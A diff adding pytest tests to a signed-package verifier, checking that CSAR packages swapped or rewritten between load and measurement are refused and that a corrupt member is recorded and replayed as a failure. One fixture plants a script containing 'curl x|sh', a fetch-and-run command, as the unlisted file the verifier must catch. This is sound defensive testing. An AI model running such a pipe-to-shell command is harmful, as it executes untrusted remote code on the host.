@@ -569,3 +569,118 @@ def test_a_hidden_entry_in_a_signed_package_is_refused(
     )  # fmt: skip
     assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
     assert "verdict: FAILED" in result.stdout
+
+
+# ------------------------------------------------- one snapshot: load, then measure
+
+
+def _between_load_and_measure(
+    monkeypatch: pytest.MonkeyPatch, change: Callable[[Path], object]
+) -> None:
+    """Run ``change`` on the package after it was loaded, before it is measured."""
+    from vendorproof.formats.csar import CsarFormat
+
+    measure = CsarFormat.measure
+
+    def changed_then_measured(
+        self: CsarFormat, path: Path, *args: Any, **kwargs: Any
+    ) -> Any:
+        change(path)
+        return measure(self, path, *args, **kwargs)
+
+    monkeypatch.setattr(CsarFormat, "measure", changed_then_measured)
+
+
+def test_a_package_replaced_after_it_was_loaded_is_refused(
+    tmp_path: Path, vendor: Vendor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The vendor's signed package, swapped (a drop directory the vendor can still
+    write to) for the same package with a file its manifest does not list, after
+    its listing and metadata were read: its listed files would all match, the
+    unlisted one would go unseen. The package is verified as one snapshot."""
+    package = build(tmp_path, vendor)
+    pol = policy(tmp_path, vendor.base / "root.pem")
+    swapped = build(
+        tmp_path, vendor, name="swapped.csar", extra={"Scripts/run.sh": b"curl x|sh"}
+    )
+    code, report = verify_json(swapped, pol)  # on its own: an unlisted file
+    assert code == ExitCode.VERIFICATION_FAILED
+    assert "unlisted-files" in failed(report)
+    _between_load_and_measure(monkeypatch, swapped.replace)
+    result = invoke("verify", package, "--policy", pol, "--at", AT)
+    assert_error(
+        result, ExitCode.INVALID_INPUT, "acme.csar", "changed after it was loaded"
+    )
+
+
+def test_a_package_written_to_after_it_was_loaded_is_refused(
+    tmp_path: Path, vendor: Vendor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The same file written in place (its times change with any write; here only
+    its modification time is set back by a second, which changes its change time):
+    intake records the refusal as a failed verification, and verifies the package
+    once it stays as loaded."""
+    package = build(tmp_path, vendor)
+    pol = policy(tmp_path, vendor.base / "root.pem")
+
+    def touched(path: Path) -> None:
+        st = path.stat()
+        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns - 10**9))
+
+    _between_load_and_measure(monkeypatch, touched)
+    store = tmp_path / "evidence.db"
+    result = invoke(
+        "intake", package, "--policy", pol, "--operator-key", OP_KEY,
+        "--store", store, "--at", AT,
+    )  # fmt: skip
+    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
+    assert "Traceback" not in result.output
+    result = invoke(
+        "audit", "replay", "--store", store, "--operator-pub", OP_PUB, "--json"
+    )
+    assert_ok(result)
+    (record,) = json.loads(result.stdout)["records"]
+    assert (record["recorded"], record["replayed"]) == ("FAILED", "FAILED")
+    monkeypatch.undo()
+    result = invoke(
+        "intake", package, "--policy", pol, "--operator-key", OP_KEY,
+        "--store", store, "--at", AT,
+    )  # fmt: skip
+    assert_ok(result)
+
+
+def test_a_corrupt_member_is_recorded_and_its_record_replays(
+    tmp_path: Path, vendor: Vendor
+) -> None:
+    """A member whose data fails its CRC-32 stops the measurement: intake records a
+    FAILED verdict naming the member, and replay confirms it, from the record alone
+    (which holds no measurement: it stands as recorded) and from the package."""
+    signed = build(tmp_path, vendor, name="signed.csar")
+    with zipfile.ZipFile(signed) as src:
+        members = {n: src.read(n) for n in src.namelist()}
+    stored = io.BytesIO()
+    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as z:
+        for member, data in members.items():
+            z.writestr(member, data)
+    raw = bytearray(stored.getvalue())
+    info = zipfile.ZipFile(io.BytesIO(bytes(raw))).getinfo("Files/image.img")
+    raw[info.header_offset + 30 + len(info.filename) + len(info.extra) + 7] ^= 1
+    package = tmp_path / "acme.csar"
+    package.write_bytes(bytes(raw))
+    pol = policy(tmp_path, vendor.base / "root.pem")
+    store = tmp_path / "evidence.db"
+    result = invoke(
+        "intake", package, "--policy", pol, "--operator-key", OP_KEY,
+        "--store", store, "--at", AT,
+    )  # fmt: skip
+    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
+    assert "Files/image.img: member data is corrupt" in " ".join(result.stdout.split())
+    for images in ((), ("--images", package)):
+        result = invoke(
+            "audit", "replay", "--store", store, "--operator-pub", OP_PUB, "--json",
+            *images,
+        )  # fmt: skip
+        assert_ok(result)
+        (record,) = json.loads(result.stdout)["records"]
+        assert (record["recorded"], record["replayed"]) == ("FAILED", "FAILED")
+        assert record["problems"] == []
